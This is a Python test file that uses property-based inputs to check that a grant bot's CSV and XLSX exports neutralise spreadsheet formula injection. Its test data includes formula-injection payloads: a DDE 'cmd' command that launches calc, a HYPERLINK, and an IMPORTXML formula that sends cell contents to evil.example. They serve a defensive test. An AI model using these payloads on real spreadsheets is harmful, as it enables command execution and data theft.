"""Exports neutralise formulas: any text a grantee or funder wrote opens as text, never runs."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import openpyxl  # type: ignore[import-untyped]
import pytest
from hypothesis import given
from hypothesis import strategies as st

import storage
from bot.admin.export import FORMULA_STARTS, export_programme
from storage.records import AnswerWrite, GranteeSpec
from tests.e2e import summary_seed as seed
from tests.faults.tally import Tally, io

FORMULAS = [
    '=HYPERLINK("http://evil.example","click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]
ORGANISATION = '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")'
# text that starts like a formula, or anything at all; the database keeps no NUL
TEXTS = (
    st.one_of(
        st.tuples(st.sampled_from([*FORMULA_STARTS, " ", "'", "\n"]), st.text(max_size=40)).map(
            "".join
        ),
        st.sampled_from(FORMULAS),
        st.text(min_size=1, max_size=60),
    )
    .map(lambda s: s.replace("\x00", ""))
    .filter(lambda s: s.strip() != "")
)


def unescaped(cell: str) -> str:
    """A cell's text as a spreadsheet shows it: xlsx writes control characters as _xHHHH_,
    which openpyxl leaves as they are."""
    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), cell)


def shown(text: str) -> str:
    """How a cell must read: a leading apostrophe when a spreadsheet would take a formula."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


@pytest.fixture
async def programme(db: str) -> int:
    """The programme's id (a number, so that a failing case prints in one line)."""
    target = await seed.programme("bridges", "northern", ("arts",))
    await storage.upsert_grantees(
        target.id,
        [
            GranteeSpec(
                name="Lead",
                organisation=ORGANISATION,
                email="lead@example.org",
                slack_user_id=None,
                timezone="Europe/London",
                activity_type="arts",
                local_authority="@Leeds",
            )
        ],
    )
    await seed.open_round(target, "=2026 Q1", 0)
    return target.id


async def store(programme: int, story: str, comment: str) -> None:
    found = await storage.get_round(programme, "=2026 Q1")
    assert found is not None
    (line,) = await storage.round_status(found.id)
    assert line.checkin is not None
    await storage.save_step(
        line.checkin.id,
        expected_version=line.checkin.version,
        state={},
        status="completed",
        answers=[AnswerWrite("G2", 1, story, story), AnswerWrite("G1C", 1, comment, comment)],
        channel="console",
        actor="test",
        now=seed.START,
    )


@given(story=TEXTS, comment=TEXTS)
@io(60)
async def test_no_exported_cell_is_a_formula(
    programme: int, story: str, comment: str, tmp_path: Path, tally: Tally
) -> None:
    with tally.case("attacks exports"):
        await store(programme, story, comment)
        wide = tmp_path / "wide.csv"
        await export_programme("bridges", "csv", wide)
        with wide.open(encoding="utf-8-sig", newline="") as handle:
            (row,) = list(csv.DictReader(handle))
        assert row["G2@1"] == shown(story) and row["G1C@1"] == shown(comment)
        assert row["organisation"] == "'" + ORGANISATION and row["period"] == "'=2026 Q1"
        assert row["local_authority"] == "'@Leeds"
        long = tmp_path / "long.xlsx"
        await export_programme("bridges", "xlsx", long, long=True)
        sheet = openpyxl.load_workbook(long).active
        assert sheet is not None
        cells = [c for line in sheet.iter_rows() for c in line]
        assert all(c.data_type != "f" for c in cells)  # no formula cell at all
        header = [c.value for c in next(sheet.iter_rows())]
        values = {
            row[header.index("question_id")]: unescaped(str(row[header.index("value")]))
            for row in sheet.iter_rows(min_row=2, values_only=True)
        }
        assert values == {"G2": shown(story), "G1C": shown(comment)}
        texts = [unescaped(c.value) for c in cells if isinstance(c.value, str)]
        assert not [t for t in texts if t.startswith(FORMULA_STARTS)]
